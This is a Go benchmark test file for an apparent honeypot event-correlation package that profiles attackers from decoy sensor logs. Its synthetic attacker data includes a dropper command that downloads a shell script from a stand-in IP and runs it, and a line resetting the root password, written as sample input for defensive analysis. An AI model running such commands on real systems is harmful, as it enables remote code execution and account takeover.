package profile

import (
	"fmt"
	"testing"

	"dossier/correlate/event"
	"dossier/correlate/state"
)

// busy returns the events of an attacker that fills its lists: logins by the
// thousand, hundreds of commands, many decoys.
func busy(n int) []*event.Event {
	events := make([]*event.Event, 0, n)
	lines := []string{
		"cd /tmp; wget http://198.51.100.7/x.sh; chmod 777 x.sh; sh x.sh; rm -rf x.sh",
		"cat /proc/cpuinfo | grep name | wc -l",
		`echo "root:abc123"|chpasswd|bash`,
		"uname -a",
	}
	for i := range n {
		ev := &event.Event{
			Time: morning + event.Time(i)*second, Addr: someone, Decky: fmt.Sprintf("decky-%02d", i%40), Service: "ssh",
			Type: "auth_attempt", Kind: event.Scan, Phase: event.Recon, Proof: event.ByConnection,
		}
		if i%10 == 0 {
			ev.Type, ev.Kind = "command", event.Interaction
			ev.Evidence = []event.Evidence{{Kind: event.Command, A: lines[i/10%len(lines)]}}
		} else {
			e := event.Evidence{Kind: event.Login, A: "root", B: "plaintext", C: fmt.Sprintf("password%d", i), Outcome: event.Failure}
			e.Digest[0], e.Digest[1] = byte(i), byte(i>>8)
			ev.Evidence = []event.Evidence{e}
		}
		events = append(events, ev)
	}
	return events
}

func stateOf(r *Renderer, events []*event.Event) (*state.Attacker, *event.Arena) {
	a, s := new(event.Arena), new(state.Attacker)
	for _, ev := range events {
		r.Annotate(a, ev)
	}
	s.Fold(a, "sensor-1", false, events)
	return s, a
}

func BenchmarkAnnotate(b *testing.B) {
	r := renderer(b, Options{})
	for name, ev := range map[string]event.Event{
		"connect": {Type: "connect", Service: "ftp"},
		"login":   {Type: "auth_attempt", Service: "ssh", Evidence: []event.Evidence{{Kind: event.Login, A: "root", B: "plaintext", C: "toor"}}},
		"agent":   {Type: "request", Service: "http", Evidence: []event.Evidence{{Kind: event.Fingerprint, A: "http_useragent", B: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"}}},
		"command": {Type: "command", Service: "ssh", Evidence: []event.Evidence{{Kind: event.Command, A: "cd /tmp; wget http://198.51.100.7/x.sh; chmod 777 x.sh; sh x.sh; rm -rf x.sh"}}},
	} {
		b.Run(name, func(b *testing.B) {
			var a event.Arena
			b.ReportAllocs()
			for i := 0; b.Loop(); i++ {
				one := ev
				r.Annotate(&a, &one)
				if i%256 == 0 {
					a.Reset()
				}
			}
		})
	}
}

// BenchmarkFold folds into a state whose memory is used again, as the model
// does.
func BenchmarkFold(b *testing.B) {
	r := renderer(b, Options{})
	for _, n := range []int{16, 500, 5000} {
		b.Run(fmt.Sprintf("events=%d", n), func(b *testing.B) {
			events := busy(n)
			a := new(event.Arena)
			for _, ev := range events {
				r.Annotate(a, ev)
			}
			var work event.Arena
			var s state.Attacker
			b.ReportAllocs()
			for b.Loop() {
				s.Reset()
				s.Fold(&work, "sensor-1", false, events)
				work.Reset()
			}
			b.ReportMetric(float64(n)*float64(b.N)/b.Elapsed().Seconds(), "records/s")
			b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(n)/float64(b.N), "ns/record")
		})
	}
}

func BenchmarkAppendAttacker(b *testing.B) {
	r := renderer(b, Options{})
	for _, n := range []int{1, 16, 500, 5000} {
		b.Run(fmt.Sprintf("events=%d", n), func(b *testing.B) {
			s, _ := stateOf(r, busy(n))
			h := headOf(someone)
			h.State = s.Append(nil)
			doc := r.AppendAttacker(nil, h, s)
			b.SetBytes(int64(len(doc)))
			b.ReportAllocs()
			for b.Loop() {
				doc = r.AppendAttacker(doc[:0], h, s)
			}
		})
	}
}

func BenchmarkTransitions(b *testing.B) {
	r := renderer(b, Options{})
	s, _ := stateOf(r, busy(500))
	var crossed []state.Transition
	b.ReportAllocs()
	for b.Loop() {
		crossed = r.Transitions(crossed[:0], headOf(someone), s)
	}
}
